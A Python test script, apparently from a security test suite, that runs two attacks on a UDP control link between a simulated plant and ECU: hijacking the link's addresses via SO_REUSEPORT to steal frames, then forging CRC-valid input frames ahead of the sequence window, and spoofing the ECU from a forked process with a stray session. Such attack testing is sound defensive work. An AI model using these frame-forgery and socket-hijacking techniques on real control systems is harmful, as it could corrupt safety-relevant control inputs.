#!/usr/bin/python3
"""attacker.py - the two link attacks of issue 16, played by processes other than the plant
and the ECU, on the plant's host. Prints key=value lines; exit 0 when the script ran.

  attacker.py hijack PLANT ECU SECONDS VALUE
    The hostile pass's one-liner, widened: a socket with SO_REUSEPORT (then SO_REUSEADDR,
    then plain) tries to bind the plant's address and connect to the ECU (to read the ECU's
    frames), and one tries the ECU's address (to read the plant's and to send from the
    ECU's port). Whatever it gets, it then forges 1 kHz input frames carrying VALUE for
    SECONDS: with session and seq learned from a stolen frame when it stole one, from its own
    port otherwise. Prints bind results, stolen_frames, forged_sent and forged_from.

  attacker.py takeover PLANT ECU SECONDS VALUE STRAY
    Plays the real ECU (session A, VALUE every 1 ms) from the ECU's address, pauses 5 ms at
    SECONDS/2, and during the pause a SECOND PROCESS (forked, sharing the ECU's socket: what a
    sender spoofing the ECU's address looks like to the plant) sends 3 frames of a new
    session B carrying STRAY, 1.5 ms apart. Prints real_sent, stray_sent, pause_ms."""
import os
import socket
import struct
import sys
import time
import zlib

MAGIC = 0x31465348


def addr(s):
    h, p = s.rsplit(":", 1)
    return (h, int(p))


def frame(session, seq, value, ack=0):
    body = struct.pack("<IBBHIIQII", MAGIC, 1, 1, 1, session, seq, time.monotonic_ns(), ack, 0)
    body += struct.pack("<d", value)
    return body + struct.pack("<I", zlib.crc32(body))


def try_bind(local, peer):
    """Binds a socket to local like the one-liner (SO_REUSEPORT first); returns (sock, how)."""
    for name, opt in (("SO_REUSEPORT", socket.SO_REUSEPORT), ("SO_REUSEADDR", socket.SO_REUSEADDR),
                      ("plain", None)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if opt is not None:
            s.setsockopt(socket.SOL_SOCKET, opt, 1)
        try:
            s.bind(local)
            s.connect(peer)
            return s, name
        except OSError as e:
            s.close()
            err = e.strerror
    return None, "refused (" + err + ")"


def hijack(plant, ecu, seconds, value):
    ps, how_p = try_bind(plant, ecu)
    es, how_e = try_bind(ecu, plant)
    print("bind_plant_address=" + how_p.replace(" ", "_"))
    print("bind_ecu_address=" + how_e.replace(" ", "_"))
    stolen = 0
    session = seq = None
    end = time.monotonic() + 1.0
    for s in (ps, es):
        if s is not None:
            s.settimeout(0.01)
    while time.monotonic() < end and (ps is not None or es is not None):
        for s, is_ecu_frame in ((ps, True), (es, False)):
            if s is None:
                continue
            try:
                d = s.recv(2048)
            except (socket.timeout, OSError):
                continue
            stolen += 1
            if is_ecu_frame and len(d) >= 16:
                session, seq = struct.unpack_from("<II", d, 8)
    print("stolen_frames=%d" % stolen)
    if ps is not None:
        ps.close()  # else the kernel hands our own forged frames to this socket, not the plant
    # Forge: from the ECU's port when it got it, else from an ephemeral port of its own.
    if es is not None:
        tx, src = es, "ecu_port"
    else:
        tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        tx.connect(plant)
        src = "own_port"
    # 500 ahead of the newest stolen seq: inside the plant's window, ahead of the real ECU,
    # whose own frames then look late (seq_stale) - the hostile pass's attack.
    session = session if session is not None else 0x1234567
    seq = seq + 500 if seq is not None else 1
    sent = 0
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        seq += 1
        try:
            tx.send(frame(session, seq, value))
            sent += 1
        except OSError:
            pass
        time.sleep(0.001)
    print("forged_sent=%d" % sent)
    print("forged_from=" + src)


def takeover(plant, ecu, seconds, value, stray):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(ecu)
    s.connect(plant)
    r, w = os.pipe()
    child = os.fork()
    if child == 0:                      # the second process: stray frames of session B
        os.close(w)
        os.read(r, 1)
        n = 0
        for k in range(3):
            time.sleep(0.0015 if k else 0.001)
            s.send(frame(0xB0B0B0B0, 7000 + k, stray))
            n += 1
        os.write(1, b"stray_sent=%d\n" % n)
        os._exit(0)
    os.close(r)
    session, seq, sent = 0xA0A0A0A0, 0, 0
    t0 = time.monotonic()
    nxt = t0
    paused = False
    pause_ms = 0.0
    while time.monotonic() - t0 < seconds:
        if not paused and time.monotonic() - t0 >= seconds / 2:
            paused = True
            p0 = time.monotonic()
            os.write(w, b"x")               # the second process starts its stray frames
            time.sleep(0.005)               # the 5 ms ECU pause of the hostile pass
            pause_ms = (time.monotonic() - p0) * 1e3
            nxt = time.monotonic()
        seq += 1
        try:
            s.send(frame(session, seq, value))
            sent += 1
        except OSError:
            pass
        nxt += 0.001
        d = nxt - time.monotonic()
        if d > 0:
            time.sleep(d)
    os.waitpid(child, 0)
    print("real_sent=%d" % sent)
    print("pause_ms=%.2f" % pause_ms)


def main():
    mode = sys.argv[1]
    plant, ecu = addr(sys.argv[2]), addr(sys.argv[3])
    seconds, value = float(sys.argv[4]), float(sys.argv[5])
    sys.stdout.flush()
    if mode == "hijack":
        hijack(plant, ecu, seconds, value)
    else:
        takeover(plant, ecu, seconds, value, float(sys.argv[6]))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
